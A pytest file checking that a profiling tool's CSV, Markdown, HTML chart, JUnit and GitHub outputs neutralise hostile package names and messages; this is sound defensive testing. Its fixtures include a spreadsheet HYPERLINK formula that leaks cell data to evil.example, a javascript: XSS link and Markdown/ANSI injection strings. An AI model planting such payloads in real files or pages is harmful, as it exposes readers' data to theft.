"""Output that cannot be turned against its reader: names and messages from a hostile package.

A file, a distribution, a handler's error message or a label can hold a spreadsheet formula,
Markdown or HTML. Each output shows it as text: CSV cells never start a formula, Markdown
never turns it into a table column, a link or emphasis, and the HTML report's charts (plotly
draws `<a href>` and styling tags in labels) show it escaped.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import xml.etree.ElementTree as ET

import pytest
from test_markdown_gfm import PARSER, expected_tables, markup, parsed_tables, text_of

from coldprof.render import escape, render, sections
from coldprof.render.report import render_report
from coldprof.render.report.charts import figures
from coldprof.render.report.entries import entries
from coldprof.results import Note

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
MARKUP = '<a href="javascript:alert(1)">x</a><b style="font-size:90px">big</b><img src=x>'
MARKDOWN = "a|b\n# not a heading *em* __init__ [link](http://evil.example) `code` ~~gone~~"
HOSTILE = f"{MARKUP} {MARKDOWN}"
CELL_STARTS = {  # what a spreadsheet would run, and the cell coldprof writes
    "=1+1": "'=1+1",
    "+1+1": "'+1+1",
    "-1+1": "'-1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "\\t=1",
    "\r=1": "\\r=1",
    "\n=1": "\\n=1",
}


@pytest.fixture(scope="module")
def hostile(real_results) -> dict[str, object]:
    """Real results with hostile text where a package or a handler can put it."""
    analyze = real_results["analyze"]
    first, *rest = analyze.distributions
    words = {"text": HOSTILE, "advice": HOSTILE, "risk": HOSTILE}  # as a version-2 document
    finding = dataclasses.replace(
        analyze.findings[0], code="text", values=words, distribution=HOSTILE
    )
    folder = dataclasses.replace(analyze.largest_folders[0], path=HOSTILE, distribution=HOSTILE)
    bench = real_results["bench-failing"]
    error = dataclasses.replace(bench.errors[0], type=FORMULA, message=HOSTILE)
    imports = real_results["imports-failed"]
    failure = dataclasses.replace(imports.error, message=HOSTILE, stack_trace=("```", HOSTILE))
    check = real_results["check"]
    budget = dataclasses.replace(check.budgets[0], detail=Note("init-failed", {"error": HOSTILE}))
    return {
        "analyze": dataclasses.replace(
            analyze,
            target=HOSTILE,
            distributions=(dataclasses.replace(first, name=HOSTILE), *rest),
            largest_folders=(folder, *analyze.largest_folders[1:]),
            findings=(finding, *analyze.findings[1:]),
        ),
        "bench": dataclasses.replace(
            bench, label=FORMULA, target=HOSTILE, errors=(error, *bench.errors[1:])
        ),
        "imports": dataclasses.replace(imports, handler=HOSTILE, error=failure),
        "check": dataclasses.replace(check, target=HOSTILE, budgets=(budget, *check.budgets[1:])),
    }


@pytest.mark.parametrize("kind", ["analyze", "bench", "imports", "check"])
def test_markdown_shows_hostile_names_as_text(hostile, kind):
    result = hostile[kind]
    markdown = render(result, "markdown")
    assert parsed_tables(markdown) == expected_tables(sections(result))
    assert markup(markdown) == set()
    headings = [t for t in PARSER.parse(markdown) if t.type == "heading_open"]
    assert all(t.tag in ("h1", "h2", "h3") for t in headings)  # no heading from a name
    outside_code = "".join(markdown.split("````")[::2])
    assert "<a href" not in outside_code and "<img" not in outside_code


def test_markdown_keeps_a_code_fence_closed(hostile):
    markdown = render(hostile["imports"], "markdown")
    (fence,) = [t for t in PARSER.parse(markdown) if t.type == "fence"]
    assert fence.content.splitlines()[0] == "```"
    assert fence.markup == "````"


def test_the_report_markdown_shows_hostile_names_as_text(hostile):
    results = [(f"{HOSTILE}.json", result) for result in hostile.values()]
    markdown = render_report(results, "markdown")
    assert markup(markdown) == set()
    summary = parsed_tables(markdown)[0]
    assert {row[0] for row in summary[1:]} >= {escape.plain(f"{HOSTILE}.json")}


def strings_in(value: object) -> list[str]:
    """Every string in a figure's JSON."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings_in(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


def test_chart_labels_hover_text_and_titles_are_escaped(hostile):
    results = [(f"{HOSTILE}.json", result) for result in hostile.values()]
    texts = []
    for _, figure in figures(entries(results)):
        texts += strings_in(json.loads(figure.to_json()))
    assert any('&lt;a href="javascript:alert(1)"&gt;' in text for text in texts)
    for text in texts:
        assert "<a " not in text and "<img" not in text and "<b style" not in text, text
    page = render(hostile["analyze"], "html")
    assert '<a href=\\"javascript' not in page and '<a href="javascript' not in page


def csv_rows(result: object) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render(result, "csv"))))


def test_csv_cells_never_start_a_formula(hostile):
    rows = csv_rows(hostile["bench"])
    failed = [row for row in rows if row["error_type"]]
    assert failed[0]["error_type"] == "'" + FORMULA
    assert all(row["run"] == "'" + FORMULA for row in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


@pytest.mark.parametrize(("start", "cell"), CELL_STARTS.items())
def test_each_formula_start_is_neutralised_and_numbers_stay_numbers(real_results, start, cell):
    bench = real_results["bench-failing"]
    error = dataclasses.replace(bench.errors[0], message=f"{start} ", duration_ms=-1.5)
    rows = csv_rows(dataclasses.replace(bench, label=start, errors=(error,)))
    assert {row["run"] for row in rows} == {cell}
    (failed,) = [row for row in rows if row["error_type"]]
    assert not failed["error_message"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert failed["duration_ms"] == "-1.5"  # a number: never quoted


def test_junit_and_github_stay_well_formed(hostile):
    check = dataclasses.replace(hostile["check"], config="pyproject.toml\x1b[2J")
    ET.fromstring(render(check, "junit"))
    lines = render(check, "github").splitlines()
    failing = [b for b in check.budgets if not b.ok]
    assert len([line for line in lines if line.startswith("::error ")]) == len(failing)
    assert all("\x1b" not in line for line in lines)


def test_text_cells_read_back_as_they_were_shown():
    token = next(
        t
        for t in PARSER.parse(f"| h |\n|---|\n| {escape.markdown(HOSTILE)} |\n")
        if t.type == "inline" and t.content != "h"
    )
    assert text_of(token) == escape.plain(HOSTILE)


def test_a_message_that_looks_like_a_list_stays_one_item(real_results):
    warning = Note("text", {"text": "- 1. not a nested list"})
    bench = dataclasses.replace(real_results["bench-failing"], warnings=(warning,))
    tokens = PARSER.parse(render(bench, "markdown"))
    kinds = [t.type for t in tokens]
    assert "ordered_list_open" not in kinds
    assert kinds.count("bullet_list_open") == 1  # the warnings
    items = [text_of(t) for t in tokens if t.type == "inline" and "nested" in t.content]
    assert items == ["- 1. not a nested list"]
